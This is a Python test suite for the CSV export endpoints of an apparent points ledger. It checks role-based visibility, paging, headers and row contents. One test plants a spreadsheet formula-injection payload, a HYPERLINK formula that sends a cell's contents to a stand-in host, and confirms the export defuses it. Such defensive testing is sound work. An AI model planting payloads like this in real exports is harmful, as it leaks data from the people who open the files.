"""Exports: all that an asker may see and nothing else, in rows that any program reads."""

from __future__ import annotations

import csv
import io
import re

import msgspec
import pytest

from contracts.messages import Capture, Earn, Enrol, Hold, OpenProgram
from node.access import parse_role
from node.api.csv_rows import Units, restore
from node.api.entry_rows import EntryScan
from node.api.view import View
from tests.contracts.cast import (
    ANNA,
    BORIS,
    CINEMA,
    FRESH,
    OPERATOR,
    PETROL,
    PHARMACY,
    PROGRAMS,
    START,
    member_id,
    open_program,
)
from tests.node.api.desk import code_of
from tests.node.api.test_who_may_read import ASKERS

ENTRIES = "/v1/export/entries.csv"


def make_hold(reference: str, *, points: int) -> Hold:
    """Boris's leaves, set aside at his custodian's own till for an hour."""
    return Hold(
        expires=START + 3_600_000,
        member=BORIS,
        occurred_at=START,
        points=points,
        program="leaf",
        reference=reference,
    )


def read_rows(text: str) -> list[dict[str, str]]:
    """The records, by a strict reader of RFC 4180; every line of it ends with CRLF."""
    assert text.endswith("\r\n")
    assert re.fullmatch(r'(?:[^"\r\n]|"[^"]*"|\r\n)*', text)
    head, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert len(set(head)) == len(head)
    return [dict(zip(head, row, strict=True)) for row in rows]


async def fetch(desk, path, role="auditor"):
    async with desk.client() as client:
        answer = await client.get(path, headers=desk.asks(role))
    assert answer.status_code == 200, answer.text
    return answer


async def test_an_export_holds_every_entry_the_asker_may_see_and_no_other(traded):
    desk, _ = traded
    async with desk.client() as client:
        for role in (each for each in ASKERS.values() if each.startswith(("participant", "auditor"))):
            asks = desk.asks(role)
            rows = read_rows((await client.get(ENTRIES, headers=asks)).text)
            found = [int(row["index"]) for row in rows]
            seen = [
                index
                for index in range(desk.core.head.size)
                if (await client.get(f"/v1/entries/{index}", headers=asks)).status_code == 200
            ]
            assert found == seen, role
            assert (not found) == (role in ("participant:not-admitted", f"participant:{CINEMA}"))


async def test_a_row_says_what_its_entry_says(traded):
    desk, places = traded
    rows = read_rows((await fetch(desk, ENTRIES)).text)
    by_index = {int(row["index"]): row for row in rows}
    async with desk.client() as client:
        for index, row in by_index.items():
            told = (await client.get(f"/v1/entries/{index}", headers=desk.asks("auditor"))).json()
            message, outcome = told["entry"]["message"], told["entry"]["outcome"]
            assert row["kind"] == message["@type"]
            assert row["code"] == outcome["code"]
            assert (int(row["height"]), int(row["time_millis"])) == (told["height"], told["time"])
            header = told["transaction"]["header"]
            assert (row["sender"], row["transaction"]) == (header["sender"], header["id"])
            assert row["sender_name"] == header["sender"].replace("-", " ").title()
            for column, value in {
                "reference": message.get("reference"),
                "member": message.get("member"),
                "recipient": message.get("recipient"),
                "program": message.get("program"),
                "target": message.get("target"),
                "occurred_at_millis": message.get("occurred_at"),
                "points_asked": message.get("points"),
                "amount_micros": message.get("amount"),
                "points": outcome.get("points"),
                "balance": outcome.get("balance"),
            }.items():
                assert row[column] == ("" if value is None else str(value)), (index, column)
    swap = by_index[places.exchange]
    assert (swap["points"], swap["points_received"]) == ("160", "100")
    assert swap["legs"] == f"{FRESH}>{PETROL} exchange 1600000"
    assert swap["program_name"] == "Leaf"
    assert swap["time"] == "2023-11-14T22:13:20.000Z"
    assert swap["net"] == swap["net_micros"] == "", "an auditor is on no side"
    assert by_index[places.earn_home]["amount"] == "500.000000"


async def test_the_sides_of_all_participants_add_up_to_their_positions(traded):
    desk, _ = traded
    total = 0
    for who in (FRESH, PETROL, PHARMACY, OPERATOR):
        role = f"participant:{who}"
        rows = read_rows((await fetch(desk, ENTRIES, role)).text)
        net = sum(int(row["net_micros"]) for row in rows)
        (own,) = read_rows((await fetch(desk, "/v1/export/positions.csv", role)).text)
        assert (own["participant"], int(own["net_micros"])) == (who, net)
        assert own["net"] == str(Units(net))
        total += net
    assert total == 0


@pytest.mark.parametrize("role", ["auditor", f"participant:{FRESH}", f"participant:{PETROL}"])
async def test_tables_hold_the_rows_of_their_json(traded, role):
    desk, _ = traded
    async with desk.client() as client:
        for path, money in (
            ("positions", "net_micros"),
            ("positions/bilateral", "micros"),
            ("tallies", "points"),
        ):
            told = (await client.get(f"/v1/{path}", headers=desk.asks(role))).json()
            answer = await client.get(f"/v1/export/{path.split('/')[-1]}.csv", headers=desk.asks(role))
            rows = read_rows(answer.text)
            assert [{key: row[key] for key in told["rows"][0]} for row in rows] == told["rows"]
            assert all(re.fullmatch(r"-?\d+", row[money]) for row in rows)
            heads = (answer.headers["commonpoint-height"], answer.headers["commonpoint-size"])
            assert heads == (str(told["height"]), str(told["size"]))
        tallies = await client.get(
            "/v1/export/tallies.csv?program=leaf", headers=desk.asks(f"participant:{FRESH}")
        )
        assert {row["program"] for row in read_rows(tallies.text)} == {"leaf"}


async def test_an_export_is_a_file_that_nobody_keeps(traded):
    desk, _ = traded
    for name in ("entries", "positions", "bilateral", "tallies"):
        answer = await fetch(desk, f"/v1/export/{name}.csv")
        assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
        assert answer.headers["content-disposition"] == f'attachment; filename="{name}.csv"'
        assert answer.headers["cache-control"] == "no-store"
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["commonpoint-size"] == str(desk.core.head.size)
        answer.content.decode("utf-8")


@pytest.mark.parametrize("role", ["auditor", f"participant:{PETROL}"])
async def test_pages_make_up_the_whole(traded, role):
    desk, _ = traded
    whole = read_rows((await fetch(desk, ENTRIES, role)).text)
    for limit in (1, 2, 5, len(whole), 1_000_000):
        rows, after = [], ""
        while True:
            page = read_rows((await fetch(desk, f"{ENTRIES}?limit={limit}{after}", role)).text)
            rows += page
            if len(page) < limit:
                break
            after = f"&after={page[-1]['index']}"
        assert rows == whole
    # Whatever leaf a page begins at, also amid a transaction's entries and beyond the end.
    for after in range(desk.core.head.size + 2):
        page = read_rows((await fetch(desk, f"{ENTRIES}?after={after}", role)).text)
        assert page == [row for row in whole if int(row["index"]) > after]
        before = read_rows((await fetch(desk, f"{ENTRIES}?before={after}", role)).text)
        assert before == [row for row in whole if int(row["index"]) < after]


#   a query that cannot be
QUERIES = [
    "after=-1",
    "after=x",
    "before=1.0",
    "limit=0",
    "limit=1000001",
    "limit=x",
    "limit=1&limit=2",
    "page=2",
]


@pytest.mark.parametrize("query", QUERIES)
async def test_a_query_that_cannot_be_is_named(traded, query):
    desk, _ = traded
    async with desk.client() as client:
        answer = await client.get(f"{ENTRIES}?{query}", headers=desk.asks("auditor"))
        assert (answer.status_code, code_of(answer)) == (400, "BAD_REQUEST")


async def test_a_name_that_is_a_formula_is_a_name_in_every_table(desk):
    evil = '=HYPERLINK("http://x.example?"&A1,"pay")'
    desk.must(FRESH, OpenProgram(name=evil, program="leaf", spend_per_point=500_000))
    opening = open_program(PROGRAMS["leaf"], height=desk.core.head.height + 1)[1]
    desk.must(FRESH, msgspec.structs.replace(opening, effective_height=desk.core.head.height + 2))
    desk.must(FRESH, Enrol(member=ANNA))
    desk.must(FRESH, desk.town.earn(1, points=5, reference="-1-1"), purpose="till")
    for path in (ENTRIES, "/v1/export/tallies.csv"):
        text = (await fetch(desk, path)).text
        assert '"\'=HYPERLINK(""http://x.example?""&A1,""pay"")"' in text
        assert not re.search(r'(^|,)"?=', text, re.MULTILINE)
    rows = read_rows((await fetch(desk, ENTRIES)).text)
    earned = rows[-1]
    assert (earned["kind"], earned["reference"], earned["points"]) == ("earn", "'-1-1", "5")
    assert restore(earned["program_name"]) == evil


async def test_what_was_turned_down_and_a_time_beyond_all_calendars_are_rows_too(desk):
    desk.trade()
    desk.core.submit(desk.sign(FRESH, Earn(1, ANNA, 2**53 - 1, "leaf", "far-away"), purpose="till")).result(
        30
    )
    row = read_rows((await fetch(desk, ENTRIES)).text)[-1]
    assert (row["code"], row["occurred_at"]) == ("OCCURRED_IN_FUTURE", "287396-10-12T08:59:00.991Z")


async def test_what_a_block_does_by_itself_is_in_it(desk):
    desk.trade()
    desk.clock.at += 500 * 86_400_000
    desk.must(FRESH, Enrol(member=member_id(77)), not_after=desk.clock() + 1_000)
    rows = read_rows((await fetch(desk, ENTRIES, f"participant:{FRESH}")).text)
    lapsed = [row for row in rows if row["kind"] == "expire"]
    assert lapsed
    assert {row["transaction"] for row in lapsed} == {""}
    assert {(row["program"], row["member"]) for row in lapsed} >= {("leaf", ANNA), ("mile", ANNA)}


async def test_what_completes_something_earlier_says_what(desk):
    desk.trade()
    today = (START + 480 * 60_000) // 86_400_000
    held = desk.must(FRESH, make_hold("till-1", points=30))
    capture = Capture("till-1", today, BORIS, START, 10, "leaf")
    captured = desk.must(FRESH, capture)
    rows = {row["index"]: row for row in read_rows((await fetch(desk, ENTRIES)).text)}
    row = rows[str(captured.index + 1)]
    assert (row["kind"], row["original"], row["points_asked"]) == ("capture", "till-1", "10")
    assert (row["original_index"], row["points_released"]) == (str(held.index + 1), "20")
    assert rows[str(held.index + 1)]["reference"] == "till-1"


async def test_an_export_stands_for_the_moment_it_began(desk):
    desk.trade()
    size = desk.core.head.size
    view = View(desk.app._api.state.site.core)
    scan = EntryScan(view, parse_role("auditor"), first=0, end=view.head.size, limit=None)
    desk.must(FRESH, Enrol(member=member_id(77)))
    text = b""
    while (piece := scan.read_some()) is not None:
        text += piece
    indexes = [int(line.split(b",")[0]) for line in text.splitlines()]
    assert max(indexes) < size < desk.core.head.size
